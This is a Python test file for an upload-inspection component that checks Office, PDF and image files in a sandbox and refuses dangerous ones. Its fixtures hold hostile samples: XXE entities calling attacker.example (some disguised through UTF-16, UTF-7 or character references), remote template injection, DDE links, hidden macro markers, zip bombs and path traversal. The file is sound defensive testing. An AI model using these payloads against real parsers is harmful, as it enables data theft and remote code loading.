"""The closer look, through the real sandbox."""

import io
import os
import struct
import zipfile

import pikepdf
import pytest

from evidence import intake
from evidence.inspection import inspect
from evidence.sniff import LOCKED, FileType
from foundation import sandbox
from foundation.errors import Refused
from tests.evidence.makers import DOCX_MAIN, SMALL, XLSX_MAIN, archive, pdf, picture


def look(content, extension):
    return inspect(extension.encode() + b"\n" + content)


@pytest.mark.parametrize("extension", SMALL)
def test_honest_files_pass(extension):
    assert look(SMALL[extension], extension) == b""


def marked_encrypted(content):
    """Set the "encrypted" flag of every entry in the table of contents."""
    changed = bytearray(content)
    at = changed.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 8] |= 1
        at = changed.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def overlapping():
    """Many entries of a table of contents that share the same packed bytes."""
    content = archive(DOCX_MAIN, content=os.urandom(1000), compression=zipfile.ZIP_STORED)
    start = content.find(b"PK\x01\x02")
    end = content.find(b"PK\x05\x06")
    directory = content[start:end]
    last = directory[directory.rfind(b"PK\x01\x02") :]
    copies = [last.replace(b"document.xml", b"%08d.xml" % number) for number in range(50)]
    body = directory + b"".join(copies)
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 52, 52, len(body), start, 0)
    return content[:start] + body + tail


PASSWORD = pikepdf.Encryption(owner="o", user="u")
REFUSED = {
    "cut pdf": (b"%PDF-1.7\n" + os.urandom(500), "pdf", "damaged"),
    "docx called xlsx": (SMALL["docx"], "xlsx", "must be a PDF"),
    "plain zip": (archive("a.txt"), "docx", "must be a PDF"),
    "cut zip": (SMALL["docx"][:-30], "docx", "damaged"),
    "macros": (archive(DOCX_MAIN, "word/vbaProject.bin"), "docx", "contains macros"),
    "renamed docm": (
        archive(DOCX_MAIN, types=b"application/vnd.ms-word.document.macroEnabled.main+xml"),
        "docx",
        "contains macros",
    ),
    "excel 4 macros": (archive(XLSX_MAIN, "xl/macrosheets/sheet1.xml"), "xlsx", "contains macros"),
    "bomb": (archive(DOCX_MAIN, content=bytes(30_000_000)), "docx", "too tightly"),
    "too many parts": (archive(DOCX_MAIN, *(f"a{n}" for n in range(2000))), "docx", "too tightly"),
    "overlapping parts": (overlapping(), "docx", "too tightly"),
    "path out": (archive(DOCX_MAIN, "../../x"), "docx", "damaged"),
    "pixel flood": (picture("PNG", (10_000, 6_000)), "png", "too many pixels"),
    "cut png": (SMALL["png"][:-20], "png", "damaged"),
    "gif called png": (picture("GIF"), "png", "damaged"),
}


RELATIONS = "word/_rels/settings.xml.rels"
LOADED = (
    b'<Relationships><Relationship Id="r1" Type="http://x/relationships/%s" Target="%s" '
    b'TargetMode="External"/></Relationships>'
)
TEMPLATE = LOADED % (b"attachedTemplate", b"https://x/t.dotm")
XXE = b"<!DOCTYPE x [<!ENTITY a SYSTEM 'http://attacker.example/'>]>"
REFUSED |= {
    "entities": (archive(DOCX_MAIN, content=XXE + b"<x>&a;</x>"), "docx", "load other files"),
    "entities, after a remark": (
        archive(DOCX_MAIN, content=b"<!-- - -->" * 900 + XXE + b"<x/>"),
        "docx",
        "load other files",
    ),
    "entities in UTF-16": (
        archive(XLSX_MAIN, content=(XXE + b"<x/>").decode().encode("utf-16")),
        "xlsx",
        "load other",
    ),
    "entities in another alphabet": (
        archive(XLSX_MAIN, content=b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x'),
        "xlsx",
        "load other files",
    ),
    "an include": (
        archive(DOCX_MAIN, content=b'<x xmlns:i="http://www.w3.org/2001/XInclude"/>'),
        "docx",
        "load other files",
    ),
    "a template elsewhere": (
        archive(DOCX_MAIN, RELATIONS, content=LOADED % (b"attachedTemplate", b"https://x/t.dotm")),
        "docx",
        "load other files",
    ),
    "a template whose address is written in numbers": (
        archive(
            DOCX_MAIN,
            RELATIONS,
            content=LOADED % (b"attached&#84;emplate", b"&#104;ttps://x/t.dotm"),
        ),
        "docx",
        "load other files",
    ),
    "a template behind a sign of closing": (
        archive(DOCX_MAIN, RELATIONS, content=TEMPLATE.replace(b"r1", b"a>b")),
        "docx",
        "load other files",
    ),
    "a template of an odd family": (
        archive(
            DOCX_MAIN,
            RELATIONS,
            content=TEMPLATE.replace(b"<Rel", b"<a.b:Rel", 1)
            .replace(b"<Relationship ", b"<a.b:Relationship ")
            .replace(b"</Rel", b"</a.b:Rel"),
        ),
        "docx",
        "load other files",
    ),
    "a picture on another machine": (
        archive(DOCX_MAIN, RELATIONS, content=LOADED % (b"image", rb"\\x\share\a.png")),
        "docx",
        "load other files",
    ),
    "a page taken in": (
        archive(DOCX_MAIN, RELATIONS, content=LOADED % (b"aFChunk", b"/word/page.html")),
        "docx",
        "load other files",
    ),
    "a program as a source of cells": (
        archive(XLSX_MAIN, "xl/externalLinks/e.xml", content=b"<e><ddeLink ddeService='x'/></e>"),
        "xlsx",
        "load other files",
    ),
    "macros whose type is written in numbers": (
        archive(DOCX_MAIN, types=b"<Types><Override ContentType='a/vba&#80;roject'/></Types>"),
        "docx",
        "macros",
    ),
    "macros behind a megabyte of nothing": (
        archive(
            DOCX_MAIN,
            types=b"<Types>" + b" " * 1_100_000 + b"<Override ContentType='a/vbaProject'/></Types>",
        ),
        "docx",
        "macros",
    ),
    "a list of types that is no XML": (archive(DOCX_MAIN, types=b"<Types>"), "docx", "damaged"),
    "macros in UTF-16": (
        archive(DOCX_MAIN, types="<x a='macroEnabled'/>".encode("utf-16")),
        "docx",
        "macros",
    ),
    "entities in a picture": (SMALL["jpg"] + XXE, "jpg", "load other files"),
}


def test_a_link_somebody_has_to_follow_is_no_danger():
    for relation, target in ((b"hyperlink", b"https://x/"), (b"attachedTemplate", b"Normal.dotm")):
        content = archive(DOCX_MAIN, RELATIONS, content=LOADED % (relation, target))
        assert look(content, "docx") == b""


@pytest.mark.parametrize(
    ("content", "extension"),
    [(pdf(encryption=PASSWORD), "pdf"), (marked_encrypted(SMALL["docx"]), "docx")],
    ids=["pdf", "docx"],
)
def test_a_password_is_told(content, extension):
    assert look(content, extension) == LOCKED


@pytest.mark.parametrize("case", REFUSED)
def test_others_are_refused(case):
    content, extension, sentence = REFUSED[case]
    with pytest.raises(Refused, match=sentence):
        look(content, extension)


def test_a_pdf_that_opens_without_a_password_is_not_called_locked():
    assert look(pdf(encryption=pikepdf.Encryption(owner="o", user="")), "pdf") == b""


@pytest.fixture
def _sandbox():
    sandbox.register(intake.TASKS)


@pytest.mark.usefixtures("_sandbox")
def test_an_upload_that_finds_no_turn_is_told_to_come_again(monkeypatch):
    def busy(*_given):
        raise sandbox.Busy

    monkeypatch.setattr(sandbox, "run", busy)
    with pytest.raises(Refused, match="select it again in a minute"):
        intake.judge(io.BytesIO(SMALL["pdf"]), "a.pdf")


@pytest.mark.usefixtures("_sandbox")
def test_an_upload_is_handed_over_in_small_parts(monkeypatch):
    content, sizes = pdf() + bytes(200_000), []

    def noting(task, payload, limits):
        del task, limits
        parts = list(payload.parts)
        sizes.extend(map(len, parts))
        assert b"".join(parts) == b"pdf\n" + content
        assert payload.size == 4 + len(content)
        return b""

    monkeypatch.setattr(sandbox, "run", noting)
    assert intake.judge(io.BytesIO(content), "a.pdf").size == len(content)
    assert max(sizes) <= intake.PART


@pytest.mark.usefixtures("_sandbox")
def test_an_upload_is_judged_in_the_sandbox():
    stream = io.BytesIO(SMALL["pdf"])
    judged = intake.judge(stream, "../رپورٹ.pdf")
    assert judged == intake.Judged(FileType.PDF, "رپورٹ.pdf", len(SMALL["pdf"]))
    assert stream.tell() == 0
    assert not judged.is_locked
    assert intake.judge(io.BytesIO(pdf(encryption=PASSWORD)), "a.pdf").is_locked
    assert intake.judge(io.BytesIO(b"a,b"), "a.csv").file_type is FileType.CSV
